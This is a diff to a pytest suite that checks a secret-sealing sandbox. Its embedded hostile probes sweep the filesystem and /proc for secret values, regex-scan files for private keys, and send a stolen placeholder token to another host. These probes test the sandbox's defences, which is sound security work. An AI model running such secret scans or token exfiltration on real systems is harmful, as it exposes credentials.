@@ -19,16 +19,15 @@ import json
 import secrets
 import shutil
 import sys
-from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import anyio
 import docker
 import pytest
+from conftest import require_engine
 from cryptography import x509
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
-from conftest import require_engine
 from support import EXPERT, EXPERT_FILES, HERE, LABEL_ROLE, LABEL_RUN, Canaries, Hostile, quiet
 
 from perstack_sandbox import engine, open_run, state
@@ -37,7 +36,7 @@ from perstack_sandbox.engine._exec import start_exec
 from perstack_sandbox.isolation import ISOLATIONS
 
 sys.path.insert(0, str(HERE.parent / "unit"))
-from sealed_certs import make_certificates  # noqa: E402 - a sibling suite's helper
+from sealed_certs import make_certificates
 
 if TYPE_CHECKING:
     from collections.abc import AsyncIterator
@@ -51,6 +50,7 @@ PEM, SubjectPublicKeyInfo = Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
 ECHO_SOURCE = HERE.parent / "unit" / "sealed_echo.py"
 PROXY_UID = 10000
 READY_DEADLINE_S = 30
+AUDIT_DEADLINE_S = 10  # the engine copies the proxy's audit lines as they come
 SCAN_SKIP = ("/proc", "/sys", "/dev")
 SCAN_MAX_BYTES = 64 * 1024**2  # larger files come from the image, built before any value
 
@@ -84,15 +84,31 @@ class SealedRun:
     hostile: Hostile
     values: dict[str, str]
     proxy: Any
+    seen: dict[tuple[str, str], int] = dataclasses.field(default_factory=dict)
 
     async def placeholder(self, skill: str, name: str) -> str:
         """Return what `skill` holds for `name` (its placeholder)."""
         found: str = await self.hostile.probe(f"import os\nemit(os.environ[{name!r}])", skill=skill)
         return found
 
-    def sealed_lines(self) -> list[dict[str, Any]]:
-        """Return the audit's sealed-path lines."""
-        return [line for line in self.hostile.audit_lines() if line.get("event") == "sealed"]
+    async def sealed_line(self, skill: str, host: str) -> dict[str, Any]:
+        """Wait (bounded) for a sealed-path line of `skill` and `host`, and return the last.
+
+        The engine copies the proxy's audit into the run's folder as it comes: a line may
+        land a moment after the answer that followed it.
+        """
+        with anyio.fail_after(AUDIT_DEADLINE_S):
+            while True:
+                lines = [
+                    line
+                    for line in self.hostile.audit_lines()
+                    if line.get("event") == "sealed"
+                    and (line["skill"], line["host"]) == (skill, host)
+                ]
+                if len(lines) > self.seen.get((skill, host), 0):
+                    self.seen[(skill, host)] = len(lines)
+                    return lines[-1]
+                await anyio.sleep(0.05)
 
 
 def _sha256(text: str) -> str:
@@ -195,7 +211,7 @@ async def test_a_sealed_skill_finds_only_placeholders_in_env_files_and_proc(
         "def look(where, data, kind):\n"
         "    scanned[kind] += 1\n"
         "    hits.extend(where for n in needles if n in data)\n"
-        "look('environ', b''.join(k.encode() + v.encode() for k, v in os.environ.items()), 'proc')\n"
+        "look('environ', repr(os.environ).encode(), 'proc')\n"
         "for root, dirs, files in os.walk('/'):\n"
         f"    if root in {SCAN_SKIP!r}: dirs.clear(); continue\n"
         "    for name in files:\n"
@@ -227,7 +243,8 @@ async def test_a_sealed_skill_finds_only_placeholders_in_env_files_and_proc(
     result = await sealed_run.hostile.probe(code)
     assert result["scanned"]["files"] > 1000
     assert result["scanned"]["proc"] > 100
-    assert result["scanned"]["memory"] > 10
+    # gVisor's /proc/<pid>/mem refuses reads even of the skill's own processes.
+    assert result["scanned"]["memory"] > (10 if sealed_run.hostile.isolation == "runc" else -1)
     assert result["hits"] == []
 
 
@@ -248,8 +265,8 @@ async def test_the_allowed_host_receives_the_real_value(sealed_run: SealedRun) -
     real = sealed_run.values["HOSTILE_TOKEN"]
     assert echoed["sha256"]["authorization"] == _sha256(f"Bearer {real}")
     assert echoed["targetSha256"] == _sha256(f"/v1?key={real}")
-    line = sealed_run.sealed_lines()[-1]
-    assert (line["skill"], line["host"], line["variables"]) == ("hostile", ECHO, ["HOSTILE_TOKEN"])
+    line = await sealed_run.sealed_line("hostile", ECHO)
+    assert (line["decision"], line["variables"]) == ("substitute", ["HOSTILE_TOKEN"])
     audit_text = sealed_run.hostile.run.audit_path.read_text(encoding="utf-8")
     assert real not in audit_text
 
@@ -265,15 +282,15 @@ async def test_a_placeholder_sent_by_another_skill_to_its_own_host_is_refused(
     stolen = await sealed_run.placeholder("hostile", "HOSTILE_TOKEN")
     code = (
         "import urllib.error, urllib.request\n"
-        f"req = urllib.request.Request('https://{OTHER}/', headers={{'Authorization': {stolen!r}}})\n"
+        f"req = urllib.request.Request('https://{OTHER}/',\n"
+        f"    headers={{'Authorization': {stolen!r}}})\n"
         "try: emit(urllib.request.urlopen(req, timeout=20).status)\n"
         "except urllib.error.HTTPError as exc: emit(exc.code)"
     )
     assert await sealed_run.hostile.probe(code, skill="decoy") == 403
-    line = sealed_run.sealed_lines()[-1]
-    assert (line["skill"], line["host"], line["reason"], line["placeholderOf"]) == (
-        "decoy",
-        OTHER,
+    line = await sealed_run.sealed_line("decoy", OTHER)
+    assert (line["decision"], line["reason"], line["placeholderOf"]) == (
+        "deny",
         "foreign-placeholder",
         "hostile",
     )
@@ -311,7 +328,8 @@ async def test_the_run_cas_key_cannot_be_read_from_the_sandbox(sealed_run: Seale
         "block = re.compile(rb'-----BEGIN [A-Z ]*PRIV' rb'ATE KEY-----.+?-----END [A-Z ]*PRIV'"
         " rb'ATE KEY-----', re.S)\n"
         "def look(path, data):\n"
-        "    for match in block.findall(data)[:20]: found.setdefault(path, []).append(match.decode())\n"
+        "    for match in block.findall(data)[:20]:\n"
+        "        found.setdefault(path, []).append(match.decode())\n"
         "for root, dirs, files in os.walk('/'):\n"
         f"    if root in {SCAN_SKIP!r}: dirs.clear(); continue\n"
         "    for name in files:\n"
@@ -328,7 +346,7 @@ async def test_the_run_cas_key_cannot_be_read_from_the_sandbox(sealed_run: Seale
         "      'path': os.environ['SSL_CERT_FILE']})"
     )
     result = await sealed_run.hostile.probe(code)
-    assert result["path"] == "/tmp/perstack-ca/bundle.pem"
+    assert result["path"] == "/tmp/perstack-ca/bundle.pem"  # noqa: S108 - inside the sandbox
     last = (
         "-----BEGIN CERTIFICATE-----" + result["bundle"].rsplit("-----BEGIN CERTIFICATE-----")[-1]
     )
